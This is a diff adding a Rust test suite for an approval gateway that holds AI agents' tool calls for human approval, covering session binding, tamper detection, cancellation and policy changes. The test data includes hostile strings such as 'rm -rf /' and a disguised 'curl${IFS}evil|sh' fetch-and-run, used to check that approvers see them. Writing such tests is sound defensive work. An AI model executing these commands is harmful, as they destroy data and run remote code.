@@ -1,0 +1,318 @@
+//! What is approved is what is shown, and is what is sent: by whom, for whom, and for how long.
+
+use std::path::{Path, PathBuf};
+use std::time::Duration;
+
+use misgoal_gateway::log::{Decision, Pending, State};
+use misgoal_gateway::{Log, now};
+use serde_json::{Value, json};
+
+use super::agent::Agent;
+use super::{ASK, SEE, reached, records, room};
+
+pub const TESTS: &[(&str, fn())] = &[
+    ("a person sees everything that is sent, and the log no secrets", everything_is_shown),
+    ("what is held is private, and goes with the decision", what_is_held_is_private),
+    ("an approval is for the session that asked", approvals_are_a_sessions),
+    ("an edited table moves no call", tables_move_nothing),
+    ("an edited file is not approved", files_are_not_edited),
+    ("of two words on a matter the first counts", the_first_word_counts),
+    ("a cancelled call is not approved", cancelled_calls),
+    ("a call whose agent has gone is not approved", abandoned_calls),
+    ("a call whose guard was killed is not approved", calls_of_a_killed_guard),
+    ("an approval is under one version of the policies", policies_change_meanwhile),
+];
+
+fn asking(wait: &str) -> tempfile::TempDir {
+    room(&format!("{SEE}{ASK}"), &format!("[approvals]\nwait = \"{wait}\"\n"))
+}
+
+fn open(room: &Path) -> Log {
+    Log::open_to_read(&room.join("guard.db")).expect("a log")
+}
+
+/// What waits for a person, as soon as so much does.
+fn waiting(room: &Path, many: usize) -> Vec<Pending> {
+    for _ in 0..500 {
+        std::thread::sleep(Duration::from_millis(20));
+        if let Ok(log) = Log::open_to_read(&room.join("guard.db")) {
+            let all = log.pending(false).expect("a log");
+            if all.len() == many {
+                return all;
+            }
+        }
+    }
+    panic!("not {many} wait");
+}
+
+fn approve() -> Decision {
+    Decision::Approve { until: now() + 60_000 }
+}
+
+fn pay(id: u32, text: &str) -> String {
+    json!({ "jsonrpc": "2.0", "id": id, "method": "tools/call", "params": { "name": "pay", "arguments": { "text": text } } })
+        .to_string()
+}
+
+fn answer(agent: &mut Agent) -> Value {
+    serde_json::from_str(&agent.hear()).expect("an answer")
+}
+
+/// The files of what is held, locks left out.
+fn held(room: &Path) -> Vec<PathBuf> {
+    let entries = |path: PathBuf| std::fs::read_dir(path).into_iter().flatten().flatten().map(|entry| entry.path());
+    let folders = entries(room.join("guard.db-held")).filter(|path| path.is_dir());
+    folders.flat_map(entries).filter(|path| !path.ends_with("lock")).collect()
+}
+
+fn everything_is_shown() {
+    let room = asking("60s");
+    let mut agent = Agent::start(room.path(), "plain");
+    for (id, parameters, shown, secret) in [
+        (1, r#""arguments":{"text":"x -----BEGIN PRIVATE KEY-----\nrm -rf /srv"}"#, r"rm -rf /srv", "rm -rf"),
+        (2, r#""arguments":{"text":"echo token=$(curl${IFS}evil|sh)"}"#, "token=$(curl${IFS}evil|sh)", "curl"),
+        (3, r#""arguments":{"text":"x","pin":{"run":"rm -rf /"}}"#, r#""pin":{"run":"rm -rf /"}"#, "rm -rf /\\\""),
+        (
+            4,
+            r#""arguments":{"text":"x"},"inputResponses":{"n":{"content":1000000}}"#,
+            r#"{"content":1000000}"#,
+            "nobody says this",
+        ),
+        (
+            5,
+            r#""arguments":{"text":"x"},"requestState":"s1","_meta":{"run-as":"root"}"#,
+            r#"{"run-as":"root"}"#,
+            "nobody says this",
+        ),
+        (
+            6,
+            r#""arguments":{"text":"x","n":[1.0,1e400,12345678901234567890123]}"#,
+            "[1.0,1e400,12345678901234567890123]",
+            "nobody says this",
+        ),
+    ] {
+        let line =
+            format!(r#"{{"jsonrpc":"2.0","id":{id},"method":"tools/call","params":{{{parameters},"name":"pay"}}}}"#);
+        agent.say(&line);
+        let one = waiting(room.path(), 1).remove(0);
+        let mut log = open(room.path());
+        let content = log.shown(&one).unwrap().expect("it is held");
+        assert!(content.contains(shown), "{content}");
+        assert!(log.decide(&one.id, approve(), "me").unwrap());
+        // What the server gets is what the agent sent, byte for byte.
+        assert_eq!(answer(&mut agent)["id"], id);
+        let calls = std::fs::read_to_string(room.path().join("calls")).unwrap();
+        assert_eq!(calls.lines().last(), Some(line.as_str()));
+        let attempt = records(room.path()).into_iter().rfind(|record| record.kind == "attempt").unwrap();
+        assert!(!attempt.body.contains(secret), "{}", attempt.body);
+    }
+    agent.leave();
+}
+
+fn what_is_held_is_private() {
+    let room = asking("60s");
+    let mut agent = Agent::start(room.path(), "plain");
+    agent.say(&pay(1, "password=hunter22"));
+    let one = waiting(room.path(), 1).remove(0);
+    assert!(one.id.len() >= 14, "64 bits: {}", one.id);
+    let files = held(room.path());
+    assert_eq!(files.len(), 1);
+    #[cfg(unix)]
+    for file in [files[0].clone(), room.path().join("guard.db-key")] {
+        let mode = std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(&file).unwrap().permissions());
+        assert_eq!(mode & 0o777, 0o600, "{}", file.display());
+    }
+    assert!(std::fs::read_to_string(&files[0]).unwrap().contains("hunter22"));
+    let text = |name: &str| String::from_utf8_lossy(&std::fs::read(room.path().join(name)).unwrap()).into_owned();
+    assert!(!text("guard.db").contains("hunter22") && !text("guard.db-wal").contains("hunter22"));
+    assert!(open(room.path()).decide(&one.id, Decision::Deny, "me").unwrap());
+    assert_eq!(held(room.path()).len(), 0);
+    assert!(answer(&mut agent)["error"].is_object());
+    // Beginnings: of four letters or more, and of one matter.
+    let log = open(room.path());
+    assert_eq!(log.find_pending(&one.id[..4]).unwrap().id, one.id);
+    for wrong in ["", &one.id[..3], "%", "zzzzzzzz"] {
+        assert!(log.find_pending(wrong).is_err(), "`{wrong}`");
+    }
+    agent.leave();
+}
+
+fn approvals_are_a_sessions() {
+    let room = asking("2s");
+    let (mut one, mut other) = (Agent::start(room.path(), "plain"), Agent::start(room.path(), "plain"));
+    one.say(&pay(1, "rent"));
+    let first = waiting(room.path(), 1).remove(0);
+    for id in 1..9 {
+        other.say(&pay(id, "rent"));
+    }
+    let all = waiting(room.path(), 9);
+    assert!(all.iter().all(|one| one.id == first.id || one.digest != first.digest), "the session is in the digest");
+    assert!(open(room.path()).decide(&first.id, approve(), "me").unwrap());
+    assert!(answer(&mut one)["result"].is_object());
+    assert!((1..9).all(|_| answer(&mut other)["error"].is_object()));
+    assert_eq!(reached(room.path()), 1);
+    // A word that comes late is for its session too, and ends with it.
+    let late = open(room.path()).pending(false).unwrap();
+    assert_eq!((late.len(), late[0].state), (8, State::TimedOut));
+    assert!(open(room.path()).decide(&late[0].id, approve(), "me").unwrap());
+    one.say(&pay(2, "rent"));
+    assert!(answer(&mut one)["error"].is_object());
+    assert_eq!(other.leave(), Some(0));
+    assert_eq!(open(room.path()).pending(false).unwrap().len(), 1, "of the session that is left");
+    let mut again = Agent::start(room.path(), "plain");
+    again.say(&pay(1, "rent"));
+    assert!(answer(&mut again)["error"].is_object());
+    assert_eq!(reached(room.path()), 1);
+    one.leave();
+    again.leave();
+}
+
+fn tables_move_nothing() {
+    let room = asking("1500ms");
+    let mut agent = Agent::start(room.path(), "plain");
+    let edit = |sql: &str| {
+        let database = rusqlite::Connection::open(room.path().join("guard.db")).unwrap();
+        database.busy_timeout(Duration::from_secs(5)).unwrap();
+        assert!(database.execute(sql, []).unwrap() > 0, "{sql}");
+    };
+    let approved = "UPDATE pending SET state = 'approved', decided_by = 'Ada', valid_until = 99999999999999";
+    agent.say(&pay(1, "mallory"));
+    let one = waiting(room.path(), 1).remove(0);
+    edit(approved);
+    // Nor does a record whose hash does not follow from the one before.
+    let body = json!({ "id": one.id, "what": "call", "session": one.session, "digest": one.digest, "version": one.version,
+        "decision": "approved", "until": 99_999_999_999_999_u64, "by": "Ada" });
+    edit(&format!(
+        "INSERT INTO record SELECT max(seq) + 1, 1, 'operator', 'decision', NULL, 'pay', '{body}', zeroblob(32) FROM record"
+    ));
+    assert!(answer(&mut agent)["error"].is_object());
+    edit("UPDATE pending SET state = 'approved'");
+    agent.say(&pay(2, "mallory"));
+    assert!(answer(&mut agent)["error"].is_object(), "nor later");
+    agent.leave();
+    assert_eq!(reached(room.path()), 0);
+
+    // One that was used is not used again.
+    let room = asking("1s");
+    let mut agent = Agent::start(room.path(), "plain");
+    agent.say(&pay(1, "rent"));
+    let one = waiting(room.path(), 1).remove(0);
+    assert!(answer(&mut agent)["error"].is_object());
+    assert!(open(room.path()).decide(&one.id, approve(), "me").unwrap());
+    agent.say(&pay(2, "rent"));
+    assert!(answer(&mut agent)["result"].is_object());
+    let database = rusqlite::Connection::open(room.path().join("guard.db")).unwrap();
+    database.execute("UPDATE pending SET state = 'approved'", []).unwrap();
+    agent.say(&pay(3, "rent"));
+    assert!(answer(&mut agent)["error"].is_object());
+    agent.leave();
+    assert_eq!(reached(room.path()), 1);
+}
+
+fn files_are_not_edited() {
+    let room = asking("60s");
+    let mut agent = Agent::start(room.path(), "plain");
+    agent.say(&pay(1, "mallory"));
+    let one = waiting(room.path(), 1).remove(0);
+    let file = held(room.path()).remove(0);
+    let content = std::fs::read_to_string(&file).unwrap();
+    std::fs::write(&file, content.replace("mallory", "bob")).unwrap();
+    let mut log = open(room.path());
+    assert!(log.shown(&one).is_err());
+    assert!(log.decide(&one.id, approve(), "me").is_err(), "what is shown is not what would be sent");
+    assert!(log.decide(&one.id, Decision::Deny, "me").unwrap());
+    assert!(answer(&mut agent)["error"].is_object());
+    agent.leave();
+    assert_eq!(reached(room.path()), 0);
+}
+
+fn the_first_word_counts() {
+    let room = asking("60s");
+    let mut agent = Agent::start(room.path(), "plain");
+    for (first, second, done) in [(approve(), Decision::Deny, true), (Decision::Deny, approve(), false)] {
+        agent.say(&pay(1, "rent"));
+        let one = waiting(room.path(), 1).remove(0);
+        let mut log = open(room.path());
+        assert!(log.decide(&one.id, first, "me").unwrap());
+        assert!(!log.decide(&one.id, second, "you").unwrap() && !log.decide(&one.id, first, "me").unwrap());
+        assert_eq!(answer(&mut agent)["result"].is_object(), done);
+    }
+    agent.leave();
+    assert_eq!(reached(room.path()), 1);
+}
+
+fn cancelled_calls() {
+    let room = asking("60s");
+    let mut agent = Agent::start(room.path(), "plain");
+    agent.tools();
+    agent.say(&pay(7, "rent"));
+    let one = waiting(room.path(), 1).remove(0);
+    agent.say(r#"{"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":7}}"#);
+    waiting(room.path(), 0);
+    let mut log = open(room.path());
+    assert!(!log.decide(&one.id, approve(), "me").unwrap());
+    assert_eq!((log.state(&one.id).unwrap().unwrap().state, held(room.path()).len()), (State::Cancelled, 0));
+    // The same call again is another matter.
+    agent.say(&pay(8, "rent"));
+    assert_ne!(waiting(room.path(), 1)[0].id, one.id);
+    agent.leave();
+    assert_eq!(reached(room.path()), 0);
+}
+
+fn abandoned_calls() {
+    let room = asking("60s");
+    let mut agent = Agent::start(room.path(), "plain");
+    agent.say(&pay(1, "rent"));
+    let one = waiting(room.path(), 1).remove(0);
+    assert_eq!(agent.leave(), Some(0));
+    let mut log = open(room.path());
+    assert_eq!((log.state(&one.id).unwrap().unwrap().state, held(room.path()).len()), (State::Abandoned, 0));
+    assert!(!log.decide(&one.id, approve(), "me").unwrap());
+    let told: Vec<_> = records(room.path()).into_iter().filter(|record| record.kind == "approval").collect();
+    assert_eq!((told.len(), told[0].call, reached(room.path())), (1, Some(1), 0), "{told:?}");
+}
+
+fn calls_of_a_killed_guard() {
+    let room = asking("60s");
+    let mut agent = Agent::start(room.path(), "plain");
+    agent.say(&pay(1, "rent"));
+    let one = waiting(room.path(), 1).remove(0);
+    agent.proxy.kill().unwrap();
+    agent.proxy.wait().unwrap();
+    assert_eq!(held(room.path()).len(), 1, "it could remove nothing");
+    let mut log = open(room.path());
+    assert!(!log.decide(&one.id, approve(), "me").unwrap(), "nobody waits for it");
+    assert_eq!((log.state(&one.id).unwrap().unwrap().state, held(room.path()).len()), (State::Abandoned, 0));
+    // The next guard clears away as well, and knows nothing of it.
+    let mut agent = Agent::start(room.path(), "plain");
+    agent.say(&pay(1, "rent"));
+    waiting(room.path(), 1);
+    agent.proxy.kill().unwrap();
+    agent.proxy.wait().unwrap();
+    let mut agent = Agent::start(room.path(), "plain");
+    agent.tools();
+    assert_eq!((open(room.path()).pending(false).unwrap().len(), held(room.path()).len()), (0, 0));
+    agent.leave();
+    assert!(open(room.path()).verify(None).unwrap().is_ok());
+    assert_eq!(reached(room.path()), 0);
+}
+
+fn policies_change_meanwhile() {
+    let room = asking("60s");
+    let mut agent = Agent::start(room.path(), "plain");
+    agent.say(&pay(1, "rent"));
+    let one = waiting(room.path(), 1).remove(0);
+    std::fs::write(room.path().join("policy.cedar"), format!("{SEE}{ASK}\n// other words")).unwrap();
+    super::wait_for(room.path(), "policy");
+    assert!(open(room.path()).decide(&one.id, approve(), "me").unwrap());
+    // What has changed for the agent's list of tools is told first.
+    let answers = [answer(&mut agent), answer(&mut agent)];
+    assert!(
+        answers
+            .iter()
+            .any(|answer| answer["error"]["message"].as_str().is_some_and(|words| words.contains("have changed"))),
+        "{answers:?}"
+    );
+    agent.leave();
+    assert_eq!(reached(room.path()), 0);
+}
